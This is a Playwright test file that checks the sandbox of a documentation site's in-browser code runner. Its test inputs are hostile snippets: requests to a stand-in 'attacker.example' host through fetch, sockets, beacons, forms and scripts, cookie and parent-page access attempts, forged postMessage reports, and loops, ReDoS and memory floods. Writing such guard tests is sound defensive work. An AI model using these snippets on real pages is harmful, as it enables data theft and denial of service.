import type { Page } from '@playwright/test';
import { openApp } from './faults';
import { expect, runSample, type RunPanel } from './runPanel';
import { plainTest as test } from './test';

/*
 * Code that means harm, or that went wrong. Each test fails when the guard that
 * it names is taken away.
 */

const PAGE = 'docs/api/Device/';

/** Draws, so that it runs in the frame itself and not in a worker. */
const IN_FRAME = 'document.body.textContent = "drawn";\n';

interface Opened {
  readonly panel: RunPanel;
  /** Addresses outside of the site that anything has asked for. */
  readonly requests: readonly string[];
  readonly popups: readonly Page[];
  readonly downloads: readonly unknown[];
}

async function openPanel(page: Page): Promise<Opened> {
  const requests: string[] = [];
  const popups: Page[] = [];
  const downloads: unknown[] = [];
  page.on('popup', (popup) => popups.push(popup));
  page.on('download', (download) => downloads.push(download));
  await page.context().route('https://attacker.example/**', (route) => {
    requests.push(route.request().url());
    return route.fulfill({
      contentType: 'text/html',
      headers: { 'access-control-allow-origin': '*' },
      body: '<script>parent.postMessage("hello", "*")</script>',
    });
  });
  await openApp(page, PAGE);
  const panel = await runSample(page, page.getByRole('main'));
  return { panel, requests, popups, downloads };
}

/** Fails when the page itself is held up, or the panel no longer works. */
async function expectAlive(page: Page, panel: RunPanel): Promise<void> {
  const answer = await Promise.race([
    page.evaluate(() => 'alive'),
    new Promise((resolve) => setTimeout(resolve, 2000, 'frozen')),
  ]);
  expect(answer).toBe('alive');
  expect(page.url()).toContain(PAGE);
  await panel.press('Reset');
  await panel.press('Run');
  await expect(panel.status).toHaveText('Done.');
}

test.describe('code without end', () => {
  const cases = {
    'a loop': 'while (true) {}',
    'a loop that catches': 'while (true) { try { for (;;); } catch {} }',
    'promises without a pause':
      'const f = () => Promise.resolve().then(f);\nawait f();',
  };
  for (const [name, code] of Object.entries(cases)) {
    for (const place of ['', IN_FRAME]) {
      const where = place ? 'in the frame' : 'in a worker';
      // Watch: its error names the line.
      test(`${name} ${where} is stopped with its line`, async ({ page }) => {
        const { panel } = await openPanel(page);
        await panel.runCode(place + code);
        await expect(panel.output).toContainText(
          /Stopped: the code ran.*line \d/,
          {
            timeout: 15_000,
          },
        );
        await expect(panel.status).toHaveText('Stopped.');
        await expectAlive(page, panel);
      });
    }
  }

  // The signs of life: no loop of the code is at work here.
  const slow = {
    'functions that call each other':
      'const f = () => { try { f(); } catch {} f(); };\nf();',
    'a regular expression': '/^(a+)+$/.test("a".repeat(40) + "b");',
    'a sort': '[...Array(5e7)].map(Math.random).sort();',
  };
  for (const [name, code] of Object.entries(slow)) {
    test(`${name} is stopped, and the page goes on`, async ({ page }) => {
      const { panel } = await openPanel(page);
      await panel.runCode(code);
      await expect(panel.output).toContainText('did not answer for seconds', {
        timeout: 25_000,
      });
      await expectAlive(page, panel);
    });
  }

  for (const place of ['', IN_FRAME]) {
    const where = place ? 'in the frame' : 'in a worker';
    test(`memory ${where} is stopped, and the page goes on`, async ({
      page,
    }) => {
      const { panel } = await openPanel(page);
      await panel.runCode(
        `${place}const all = [];\nsetInterval(() => { all.push(new Array(3e7).fill(0.5)); }, 0);`,
      );
      await expect(panel.status).toHaveText('Stopped.', { timeout: 60_000 });
      await expectAlive(page, panel);
    });
  }

  // Reporter: what is too much stays in the sandbox.
  test('a flood of the console is cut', async ({ page }) => {
    const { panel } = await openPanel(page);
    await panel.runCode('for (let i = 0; i < 50000; i++) console.log(i);');
    await expect(panel.output).toContainText('49000 more lines');
    expect(await panel.output.locator('.run-line').count()).toBeLessThan(1010);
    await expectAlive(page, panel);
  });

  test('values without end are cut', async ({ page }) => {
    const { panel } = await openPanel(page);
    await panel.runCode(
      'const a = {}; a.a = a; console.log(a, "b".repeat(1e7), Array(1e6).fill(a));',
    );
    await expect(panel.output).toContainText('(itself)');
    await expect(panel.output).toContainText('(10000000 characters)');
    await expectAlive(page, panel);
  });
});

test.describe('the site is out of reach:', () => {
  const cases = {
    'its page': ['parent.document.title', 'SecurityError'],
    'its storage': [
      "localStorage.setItem('theme', 'won'); console.log('kept', document.cookie)",
      'SecurityError',
    ],
    'its window': [
      "top.location = 'https://attacker.example/top'",
      'SecurityError',
    ],
  } as const;
  for (const [name, [code, message]] of Object.entries(cases)) {
    // `sandbox` without `allow-same-origin` and `allow-top-navigation`.
    test(name, async ({ page }) => {
      const { panel, requests } = await openPanel(page);
      await panel.runCode(IN_FRAME + code);
      await expect(panel.output).toContainText(message);
      expect(requests).toEqual([]);
      expect(await page.evaluate(() => localStorage.getItem('theme'))).not.toBe(
        'won',
      );
      await expectAlive(page, panel);
    });
  }

  // frame.ts runs nothing unless its origin is shut off.
  test('the page of the frame, opened as a page', async ({ page, baseURL }) => {
    const address = `${baseURL ?? ''}js/run/frame/`;
    await page.goto(address);
    await page.evaluate(() => {
      const { port1, port2 } = new MessageChannel();
      const start = {
        secret: '1',
        body: 'document.documentElement.dataset.attack = "won"',
        needsScreen: true,
        answers: {},
        data: {},
      };
      port1.onmessage = () => undefined;
      window.postMessage(start, '*', [port2]);
    });
    await page.waitForTimeout(500);
    await expect(page.locator('html')).not.toHaveAttribute('data-attack');
    await page.setContent(`<iframe src="${address}"></iframe>`);
    await page.waitForTimeout(500);
    await page.evaluate(() => {
      const { port2 } = new MessageChannel();
      const start = {
        secret: '1',
        body: 'parent.document.documentElement.dataset.attack = "won"',
        needsScreen: true,
        answers: {},
        data: {},
      };
      frames[0]?.postMessage(start, '*', [port2]);
    });
    await page.waitForTimeout(500);
    await expect(page.locator('html')).not.toHaveAttribute('data-attack');
  });
});

test.describe('there is no network for', () => {
  const address = 'https://attacker.example/secret';
  const cases = {
    fetch: `fetch('${address}').catch(() => console.log('failed'));`,
    'the real fetch': `delete globalThis.fetch; const r = new Request('${address}'); const x = new XMLHttpRequest(); x.onerror = () => console.log('failed'); x.open('GET', r.url); x.send();`,
    'a socket': `try { new WebSocket('wss://attacker.example/').onerror = () => console.log('failed'); } catch { console.log('failed'); }`,
    'a beacon': `console.log(navigator.sendBeacon?.('${address}') ? 'failed' : 'failed');`,
    'a script': `const s = document.createElement('script'); s.src = '${address}'; s.onerror = () => console.log('failed'); document.body.append(s);`,
    'a picture': `const i = new Image(); i.onerror = () => console.log('failed'); i.src = '${address}';`,
    'a style': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${address}'; l.onerror = () => console.log('failed'); document.head.append(l);`,
    'a video': `const v = document.createElement('video'); v.onerror = () => console.log('failed'); v.src = '${address}';`,
    'a frame': `const f = document.createElement('iframe'); f.src = '${address}'; document.body.append(f); setTimeout(() => console.log('failed'), 500);`,
    'a form': `const f = document.createElement('form'); f.action = '${address}'; document.body.append(f); f.submit(); setTimeout(() => console.log('failed'), 500);`,
  };
  for (const [name, code] of Object.entries(cases)) {
    // The policy of the frame.
    test(name, async ({ page }) => {
      const { panel, requests } = await openPanel(page);
      await panel.runCode(code);
      await expect(panel.output).toContainText('failed');
      expect(requests).toEqual([]);
    });
  }
});

test.describe('the frame does not leave', () => {
  // The `frame-src` of the page, and the second `load`.
  for (const [name, code] of Object.entries({
    'for another site': "location.href = 'https://attacker.example/page';",
    'for a page of the site': `location.href = 'http://localhost/';`,
    'for an empty page': "location.href = 'about:blank';",
    'by loading itself again': 'location.reload();',
    'by a link': `const a = document.createElement('a'); a.href = 'https://attacker.example/page'; document.body.append(a); a.click();`,
    'by a refresh': `document.head.innerHTML += '<meta http-equiv="refresh" content="0;url=https://attacker.example/page">';`,
  })) {
    test(name, async ({ page }) => {
      const { panel, requests } = await openPanel(page);
      await panel.runCode(IN_FRAME + code);
      await expect(panel.output).toContainText('The app left its page');
      await expect(page.locator('iframe')).toHaveCount(0);
      expect(requests).toEqual([]);
      await expectAlive(page, panel);
    });
  }

  // The port and its secret: a page in the frame cannot speak for the code.
  test('and what comes later is not heard', async ({ page }) => {
    const { panel } = await openPanel(page);
    await page.evaluate(() => {
      window.postMessage(
        {
          secret: '',
          reports: [{ type: 'log', level: 'log', text: 'forged' }],
        },
        '*',
      );
    });
    await panel.runCode(
      `${IN_FRAME}parent.postMessage({ secret: '', reports: [{ type: 'log', level: 'log', text: 'forged' }] }, '*');\nconsole.log('sent');`,
    );
    await expect(panel.output).toContainText('sent');
    await expect(panel.output).not.toContainText('forged');
  });
});

// `sandbox` without `allow-popups`, `allow-downloads` and `allow-modals`.
test('there are no windows, downloads and dialogs', async ({ page }) => {
  const { panel, popups, downloads } = await openPanel(page);
  let dialogs = 0;
  page.on('dialog', (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  await panel.runCode(
    `${IN_FRAME}open('https://attacker.example/popup');
delete globalThis.open; window.open?.('https://attacker.example/popup');
alert('hello');
const a = document.createElement('a');
a.href = 'data:text/plain,won';
a.download = 'won.txt';
document.body.append(a);
a.click();
const b = document.createElement('a');
b.href = 'https://attacker.example/popup';
b.target = '_blank';
document.body.append(b);
b.click();
setTimeout(() => console.log('tried'), 500);`,
  );
  await expect(panel.output).toContainText('No windows here');
  await expect(panel.output).toContainText('No dialogs here');
  await expect(panel.output).toContainText('tried');
  expect([popups.length, downloads.length, dialogs]).toEqual([0, 0, 0]);
});

test('nothing runs before a reader presses Run', async ({ page }) => {
  const { requests } = { requests: [] as string[] };
  page.on('request', (request) => requests.push(request.url()));
  await openApp(page, `${PAGE}?run=1&code=alert(1)#run=alert(1)`);
  await page.waitForLoadState('networkidle');
  expect(requests.filter((url) => url.includes('/js/run/'))).toEqual([]);
  await expect(page.locator('iframe')).toHaveCount(0);
});
